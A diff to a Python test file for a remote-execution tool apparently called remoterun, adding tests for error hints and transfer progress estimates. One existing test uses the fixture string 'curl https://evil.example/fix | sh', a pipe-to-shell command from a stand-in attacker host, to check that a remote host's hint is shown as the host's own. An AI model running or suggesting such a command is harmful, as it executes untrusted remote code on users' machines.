@@ -35,7 +35,7 @@ from remoterun.providers.aws import catalogue
 from remoterun.providers.aws.catalogue import NAMES
 from remoterun.providers.base import Identity, Leftover, Offer, RentedHost
 from remoterun.session import translate
-from remoterun.transfer import Fetched
+from remoterun.transfer import Fetched, Progress
 from tests.workshop import until
 
 PACKAGE = Path(render.__file__).parents[2]
@@ -155,6 +155,10 @@ def test_a_hint_of_a_host_is_shown_as_its_own(tmp_path: Path, capsys: pytest.Cap
     hint, box = "curl https://evil.example/fix | sh   mends it", MachineType("box", host="me@box")
     render.error(translate(RemoteError("busy", "no", hint), box))
     assert capsys.readouterr().err.endswith(f"hint: box says:\n      {hint}\n")
+    assert (
+        translate(RemoteError("os_error", "Read-only file system"), box).hint
+        == "remoterun doctor box   looks at its disk"
+    )
     render.error(translate(RemoteError("busy", "no", hint), MachineType("local")))
     assert capsys.readouterr().err.endswith(f"hint: {hint}\n")
     with Client(Config(tmp_path)) as client:
@@ -446,6 +450,14 @@ def test_where_the_cursor_stands_after_a_command(written: list[bytes], at_start:
     for data in written:
         cursor.wrote(data)
     assert cursor.at_start is at_start
+
+
+def test_a_transfer_that_hardly_moves_has_no_end_in_sight() -> None:
+    for done, left in ((1 << 30, 3.0), (1, None), (0, None)):
+        state = Progress()
+        state.start("sending", 1, 4 << 30)
+        state.add(done)
+        assert live_views._rate_and_left(state, 1.0)[1] == left
 
 
 def test_a_spinner_leaves_room_for_the_interrupt() -> None:
